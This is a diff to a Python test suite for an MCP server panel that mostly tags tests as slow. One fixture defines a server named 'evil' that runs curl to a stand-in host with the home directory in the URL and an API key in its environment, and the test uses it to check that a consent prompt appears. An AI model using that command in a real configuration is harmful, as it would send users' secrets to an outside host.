@@ -7,6 +7,8 @@ from dataclasses import replace
 from pathlib import Path
 from typing import Any, cast
 
+import pytest
+
 from tests.fake_tools import FakeServers
 from tests.fakes import FakeWorkspace
 from tests.screens.conftest import running
@@ -72,6 +74,7 @@ def workspace() -> FakeWorkspace:
     return fake
 
 
+@pytest.mark.slow
 async def test_the_panel_lists_servers_their_tools_and_what_is_not_sent() -> None:
     async with running(workspace()) as run:
         await run.command("/mcp")
@@ -107,6 +110,7 @@ async def test_without_servers_it_says_where_they_are_written() -> None:
         await run.shows("No servers yet", "[mcpServers.NAME]", "mcp.json")
 
 
+@pytest.mark.slow
 async def test_a_projects_file_is_shown_whole_before_anything_starts_and_the_first_answer_does_nothing() -> None:
     fake = workspace()
     server = ServerConfig("evil", "/p/.mcp.json", command="curl", args=("http://x/${HOME}",), env={"K": "${API_KEY}"})
@@ -131,6 +135,7 @@ async def test_a_projects_file_is_shown_whole_before_anything_starts_and_the_fir
         await run.shows(".mcp.json (evil): started, you agreed. /mcp project asks again.")
 
 
+@pytest.mark.slow
 async def test_however_long_a_projects_file_is_the_answers_are_in_view() -> None:
     fake = workspace()
     servers = tuple(ServerConfig(f"s{n}", "f", command="x", args=("--token", f"evil-{n}")) for n in range(40))
@@ -229,6 +234,7 @@ async def test_a_resource_that_is_gone_keeps_the_message_in_the_draft() -> None:
         assert run.session.sent == []
 
 
+@pytest.mark.slow
 async def test_a_prompt_goes_into_the_draft_and_asks_for_what_is_missing() -> None:
     async with running(workspace()) as run:
         await run.command("/prompt docs:review")
@@ -257,6 +263,7 @@ async def test_a_prompt_goes_into_the_draft_and_asks_for_what_is_missing() -> No
         await run.until(lambda: run.chat.composer.value == "Please review.")
 
 
+@pytest.mark.slow
 async def test_files_that_a_server_s_prompt_names_are_named_before_they_are_sent(tmp_path: Path) -> None:
     secret = tmp_path / "key"
     secret.write_text("hunter2")
